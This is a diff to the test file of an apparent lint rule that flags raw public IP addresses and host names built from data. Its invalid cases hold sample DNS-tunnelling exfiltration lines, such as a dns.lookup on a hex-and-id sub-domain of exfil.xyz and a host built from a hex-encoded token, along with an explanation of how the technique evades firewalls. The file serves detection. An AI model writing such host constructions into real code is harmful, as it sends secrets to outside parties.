@@ -43,6 +43,21 @@ ruleTester(rule, {
     { code: "const base = 'http://localhost:3000';", filename: 'test/api.test.ts' },
     { code: "const base = 'https://api.acme.dev';", filename: 'src/__tests__/client.test.ts' },
     { code: "const ip = '127.0.0.1';", filename: 'test/server.spec.js' },
+    // Documentation ranges in tests are what RFC 5737 reserved them for.
+    { code: "const ip = '203.0.113.7';", filename: 'test/ip.test.ts' },
+    { code: "expect(parse('http://198.51.100.4/x').host).toBe('198.51.100.4');", filename: 'src/url.spec.ts' },
+    "const reserved = '192.0.0.8';",
+    "const bench = '198.18.0.1';",
+    // File names, internal names and tenant hosts of cloud services are not data-built destinations.
+    'const file = `${name}.min.js`;',
+    'const out = `${base}.tar.gz`;',
+    'const svc = `${name}.default.svc.cluster.local`;',
+    'const bucket = `${name}.s3.amazonaws.com`;',
+    'const pages = `${owner}.github.io`;',
+    'const msg = `Resolved ${count} hosts.`;',
+    'const u = `https://${tenant}.acme.dev/api`;',
+    'const t = `${sub}.example.com`;',
+    { code: 'const h = `${id}.canary.acme.net`;', filename: 'test/dns.test.ts' },
   ],
   invalid: [
     {
@@ -141,5 +156,27 @@ ruleTester(rule, {
       errors: [{ messageId: 'url' }],
     },
     { code: "const doc = { docs: 'https://pastebin.com/raw/zz' };", errors: [{ messageId: 'drop' }] },
+    // Documentation ranges stand in for real public addresses in code under review.
+    {
+      code: "const DEFAULTS = { host: '198.51.100.23', port: 8125, prefix: 'taskq' };",
+      errors: [{ messageId: 'rawIp', severity: 'medium', line: 1 }],
+    },
+    { code: "const PROFILER = 'http://203.0.113.50:8000/v1/profile';", errors: [{ messageId: 'rawIp', severity: 'medium' }] },
+    { code: "const peer = '192.0.2.10:4444';", errors: [{ messageId: 'rawIp' }] },
+    { code: "const v6 = '2001:db8::1';", errors: [{ messageId: 'rawIp' }] },
+    // Host names whose first labels come from data: DNS tunnelling.
+    {
+      code: 'const names = [`${cacheKey()}.canary.mdsite-docs.net`, ...hosts];',
+      errors: [
+        {
+          messageId: 'dynamicHost',
+          severity: 'medium',
+          message:
+            'Host name `*.canary.mdsite-docs.net` is built from data (`${cacheKey()}.canary.mdsite-docs.net`): looking it up or connecting to it sends that data, as a sub-domain, to whoever runs `mdsite-docs.net` (DNS tunnelling needs no open connection and passes most firewalls).',
+        },
+      ],
+    },
+    { code: "import dns from 'dns'; dns.lookup(`${hex}.${id}.t.exfil.xyz`, () => {});", errors: [{ messageId: 'dynamicHost' }] },
+    { code: 'const host = `${Buffer.from(token).toString("hex")}.collector.io`;', errors: [{ messageId: 'dynamicHost' }] },
   ],
 });
